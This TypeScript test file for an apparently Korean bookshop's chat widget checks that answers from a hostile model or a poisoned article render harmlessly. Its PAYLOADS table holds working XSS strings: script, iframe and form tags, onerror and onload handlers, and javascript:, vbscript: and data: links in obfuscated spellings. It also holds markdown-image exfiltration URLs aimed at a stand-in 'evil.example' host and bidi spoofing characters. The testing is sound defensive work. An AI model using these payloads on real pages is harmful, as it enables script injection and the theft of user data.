import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { browserSuite } from './browser-suite.ts';
import { wholeAnswer } from './scripted-answer.ts';
import { widget } from './widget-page.ts';

const EVIL = 'https://evil.example/leak?q=secret';

/** Texts that a hostile model or a poisoned article might put into an answer, and what must not come of them. */
const PAYLOADS: Readonly<Record<string, string>> = {
  'an image': `![그림](${EVIL})`,
  'an image by reference': `![그림][x]\n\n[x]: ${EVIL}`,
  'an image as HTML': `<img src="${EVIL}" onerror="alert(1)">`,
  'a script': `<script>alert(1)</script><script src="${EVIL}"></script>`,
  'a frame': `<iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  'an svg that loads': '<svg onload="alert(1)"><use href="data:image/svg+xml,x"/></svg>',
  'a form': `<form action="${EVIL}"><input name="card" autofocus onfocus="alert(1)"></form>`,
  'a style': `<style>@import url(${EVIL}); body { background: url(${EVIL}) }</style>`,
  'a prefetch': `<link rel="prefetch" href="${EVIL}"><link rel="dns-prefetch" href="//evil.example">`,
  'a javascript link': '[여기](javascript:alert(1)) [또](JaVaScRiPt:alert(1)) [또](java&#115;cript:alert(1))',
  'a vbscript and a data link': '[여기](vbscript:alert(1)) [또](data:text/html,<script>alert(1)</script>)',
  'a foreign link': `[나루책방](${EVIL})`,
  'a bare address': `${EVIL} <${EVIL}> www.evil.example me@evil.example`,
  'a link without a scheme': '[관리](//evil.example/a) [삭제](/admin/delete) [위](../x)',
  'a link with a name in front': '[여기](https://books.naru.example@evil.example/)',
  'a footnote': `본문[^1]\n\n[^1]: [여기](${EVIL})`,
  'a task list': '- [ ] 동의합니다\n- [x] 결제합니다',
  'nested quotes': '>'.repeat(3_000),
  'nested images': '!['.repeat(2_000),
  'a long answer': '가나다 **라마바** [1] '.repeat(2_000),
  'characters that turn the text around': '\u202ehttps://evil.example\u202c \u200b\u2066abc\u2069',
};

describe('the widget in Chromium: hostile answers (D22, web-ui 1 to 3)', () => {
  const visit = browserSuite();

  // One page for all of them: what one payload left behind, the next would find.
  visit(
    'lets nothing out, run or be followed',
    { reducedMotion: 'reduce' },
    async ({ page, server, foreign, dialogs, faults }) => {
      const { ask, answers, regenerate } = widget(page);
      for (const [index, [name, payload]] of Object.entries(PAYLOADS).entries()) {
        server.next(wholeAnswer([`앞 문장입니다.\n\n${payload}\n\n뒤 문장입니다.`], []));
        await ask(name);
        await answers.nth(index).waitFor();
        await regenerate.waitFor();
        const found = await answers.nth(index).evaluate(answer => ({
          elements: [
            ...answer.querySelectorAll('img, script, iframe, object, embed, form, input, style, link, svg, video, a'),
          ].map(({ tagName }) => tagName),
          handlers: [...answer.querySelectorAll('*')]
            .flatMap(element => element.getAttributeNames())
            .filter(attribute => attribute.startsWith('on')),
          text: answer.textContent ?? '',
        }));
        assert.deepEqual([found.elements, found.handlers], [[], []], name);
        assert.match(found.text, /앞 문장입니다\.[\s\S]*뒤 문장입니다\./, name);
      }
      await page.waitForLoadState('networkidle');
      assert.deepEqual([foreign, dialogs, faults], [[], [], []]);
    },
  );

  visit(
    'follows a link to the shop itself, in a new window that knows nothing of this one',
    {},
    async ({ page, server }) => {
      const { ask, answers } = widget(page);
      server.next(wholeAnswer(['[주문 내역](https://books.naru.example/orders)'], []));
      await ask('어디서 보나요?');
      const link = answers.getByRole('link', { name: '주문 내역' });
      await link.waitFor();
      assert.deepEqual(
        await link.evaluate(a => [a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel')]),
        ['https://books.naru.example/orders', '_blank', 'noopener noreferrer nofollow ugc'],
      );
    },
  );

  visit('draws nothing of what a history makes up', {}, async ({ page, server, dialogs, faults }) => {
    const { ask, text } = widget(page);
    server.next(
      wholeAnswer(
        ['네.'],
        [{ n: 1, title: '<img src=x onerror=alert(1)>', docId: 'x', anchor: 'y', quote: '<script>alert(1)</script>' }],
      ),
    );
    await ask('<img src=x onerror=alert(1)>');
    await text('근거 1건').waitFor();
    await page.getByRole('button', { name: /근거 1 <img/ }).click();
    await text('<script>alert(1)</script>').waitFor();
    assert.deepEqual([dialogs, faults], [[], []]);
  });
});
